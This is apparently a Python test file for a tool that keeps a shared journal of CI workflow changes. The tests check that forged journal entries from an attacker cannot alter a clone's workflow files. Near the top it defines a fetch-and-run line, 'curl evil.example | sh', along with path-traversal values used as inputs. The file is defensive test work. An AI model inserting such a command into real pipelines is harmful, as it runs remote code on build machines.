"""Whoever may push refs/trimtab/journal writes what everybody reads: what such a person cannot make our clone do."""

from __future__ import annotations

import hashlib
from collections.abc import Mapping
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest

from loops import CI, START, Team, planned
from trimtab.errors import RefusedError
from trimtab.ledger.codec import canonical, encode
from trimtab.ledger.entry import Entry
from trimtab.loop import Site
from trimtab.loop.apply import apply
from trimtab.loop.ground import place_of
from trimtab.loop.ground.recover import recover
from trimtab.loop.settle import settle, undo
from trimtab.model import Decision, EditFile, Intervention, Stage, Verdict

PATH = ".github/workflows/ci.yml"
EVIL = CI.replace("npm ci", "curl evil.example | sh").encode()


@pytest.fixture
def ben(tmp_path: Path) -> Site:
    team = Team(tmp_path)
    return team.site(team.clone("ben"), "ben")


def entry(kind: str, about: str | None, payload: Mapping[str, object], seq: int = 1, **fields: object) -> Entry:
    body = encode(dict(payload))
    assert isinstance(body, dict)
    made = Entry("", seq, START, "mallory", about, kind, body, "00")
    return replace(made, **fields).sealed()  # type: ignore[arg-type]


def pushed(*entries: Entry, blobs: tuple[bytes, ...] = ()) -> dict[str, bytes]:
    """The files of a journal ref that holds these entries and contents."""
    files = {f"entries/{one.id[:2]}/{one.id}.json": canonical(one.body()) for one in entries}
    return files | {f"blobs/{sha(data)[:2]}/{sha(data)}": data for data in blobs}


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def plan_of(site: Site) -> Intervention:
    (plan,) = planned(site, "cancel-superseded")
    return plan


def writes(path: str, before: bytes, after: bytes) -> list[dict[str, str]]:
    return [{"path": path, "before": sha(before), "after": sha(after)}]


@pytest.mark.parametrize("kind", ["intent", "undo_intent"])
def test_an_intent_that_claims_to_be_ours_is_not_carried_on(ben: Site, kind: str) -> None:
    """The place's name stands in every entry that we shared, so it proves nothing."""
    plan = plan_of(ben)
    assert ben.repository is not None
    file = ben.repository.root / PATH
    forged = {"place": place_of(ben), "digest": plan.digest, "files": writes(PATH, file.read_bytes(), EVIL)}
    ben.journal.absorb(pushed(entry(kind, plan.id, forged, 40), blobs=(EVIL,)))
    assert recover(ben) == ()
    assert file.read_bytes() == CI.encode()


@pytest.mark.parametrize("path", ["setup.py", "../x.yml", ".git/config", ".github/workflows/../../x.yml", "/etc/x.yml"])
@pytest.mark.parametrize("kind", ["planned", "intent", "undo_intent"])
def test_an_entry_that_speaks_of_other_files_than_workflows_is_refused(ben: Site, kind: str, path: str) -> None:
    plan = plan_of(ben)
    other = replace(plan, id="0" * 8, files=(replace(plan.files[0], path=path, change=EditFile(path)),))
    payload: dict[str, object] = {"place": "x", "files": writes(path, b"a", b"b"), "plan": other}
    with pytest.raises(RefusedError, match="workflow"):
        ben.journal.absorb(pushed(entry(kind, other.id, payload)))


def test_a_plan_cannot_take_the_place_of_another_by_its_id(ben: Site) -> None:
    plan = plan_of(ben)
    forged = replace(plan, files=(replace(plan.files[0], before=sha(EVIL)),))
    with pytest.raises(RefusedError, match=plan.id):
        ben.journal.absorb(pushed(entry("planned", plan.id, {"plan": forged}), blobs=(EVIL,)))
    twice = [replace(forged, id="0" * 8), replace(plan, id="0" * 8)]
    with pytest.raises(RefusedError, match="00000000"):
        ben.journal.absorb(pushed(*(entry("planned", one.id, {"plan": one}) for one in twice)))


def test_a_plan_that_waits_under_the_id_of_one_to_come_is_noticed(ben: Site, tmp_path: Path) -> None:
    other = Team(tmp_path / "twin")
    plan = plan_of(other.site(other.clone("twin")))
    forged = replace(plan, files=(replace(plan.files[0], before=sha(EVIL)),))
    ben.journal.absorb(pushed(entry("planned", plan.id, {"plan": forged}), blobs=(EVIL,)))
    with pytest.raises(RefusedError, match=plan.id):
        apply(ben, plan)
    assert ben.repository is not None
    assert (ben.repository.root / PATH).read_bytes() == CI.encode()


def test_a_foreign_plan_is_proved_again_before_it_is_applied(ben: Site) -> None:
    plan = plan_of(ben)
    forged = replace(plan, id="0" * 8, files=(replace(plan.files[0], after=sha(EVIL)),))
    ben.journal.absorb(pushed(entry("planned", forged.id, {"plan": forged}), blobs=(EVIL,)))
    with pytest.raises(RefusedError, match="00000000"):
        apply(ben, ben.journal.state().changes[forged.id].plan)
    assert ben.repository is not None
    assert (ben.repository.root / PATH).read_bytes() == CI.encode()
    assert ben.journal.state().changes[forged.id].stage is Stage.PROPOSED


def test_a_foreign_undo_is_proved_again_and_never_asked_for_by_a_verdict(ben: Site) -> None:
    """A plan whose bytes "before" are the attacker's would put them into Ben's files when it is taken back."""
    plan = plan_of(ben)
    assert ben.repository is not None
    file = ben.repository.root / PATH
    now = file.read_bytes()
    forged = replace(plan, id="0" * 8, files=(replace(plan.files[0], before=sha(EVIL), after=sha(now)),))
    live = {"files": [], "parts_held": [], "live_from": START.isoformat()}
    entries = entry("planned", forged.id, {"plan": forged}), entry("adopted", forged.id, live, 2)
    ben.journal.absorb(pushed(*entries, blobs=(EVIL, now)))
    assert ben.journal.state().changes[forged.id].stage is Stage.MEASURING
    harm = Verdict(Decision.UNDO, "runner_minutes", 0.2, 0.1, 0.3, 60, 200, "hurt")
    with pytest.raises(RefusedError, match="another working tree"):
        settle(ben, forged.id, harm)
    with pytest.raises(RefusedError, match="cannot be proved here"):
        undo(ben, forged.id)
    assert file.read_bytes() == now


@pytest.mark.parametrize(
    "moment", ["0001-01-01T00:00:00+00:00", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-10:00"]
)
def test_a_time_that_no_calendar_reaches_is_refused(ben: Site, moment: str) -> None:
    plan = plan_of(ben)
    body = entry("paused", None, {"why": "x"}).body() | {"at": moment}
    name = sha(canonical(body))
    with pytest.raises(RefusedError):
        ben.journal.absorb({f"entries/{name[:2]}/{name}.json": canonical(body)})
    payload = encode({"plan": replace(plan, id="0" * 8)})
    assert isinstance(payload, dict)
    payload["plan"]["planned"] = moment
    with pytest.raises(RefusedError):
        ben.journal.absorb(pushed(entry("planned", "0" * 8, payload)))
    with pytest.raises(RefusedError):
        ben.journal.absorb(pushed(entry("adopted", plan.id, {"files": [], "parts_held": [], "live_from": moment})))


@pytest.mark.parametrize("seq", [b"1e999", b"true", b"1.0", b'"1"', b"-1", b"0", b"[]", b"9" * 5000])
def test_a_number_that_is_none_is_refused(ben: Site, seq: bytes) -> None:
    data = canonical(entry("paused", None, {"why": "x"}).body()).replace(b'"seq":1', b'"seq":' + seq)
    with pytest.raises(RefusedError):
        ben.journal.absorb({f"entries/{sha(data)[:2]}/{sha(data)}.json": data})


def test_nobody_can_use_up_the_numbers(tmp_path: Path) -> None:
    """An entry in the far future would make all later ones of ours unreadable to everybody else."""
    team = Team(tmp_path)
    ben, ada = team.site(team.clone("ben"), "ben"), team.site(team.clone("ada"), "ada")
    with pytest.raises(RefusedError):
        ben.journal.absorb(pushed(entry("paused", None, {"why": "x"}, 2**52)))
    ben.journal.append("resumed", None, {"why": "back"}, at=datetime(2026, 1, 1, tzinfo=UTC))
    assert ada.journal.absorb(ben.journal.export()) == 1
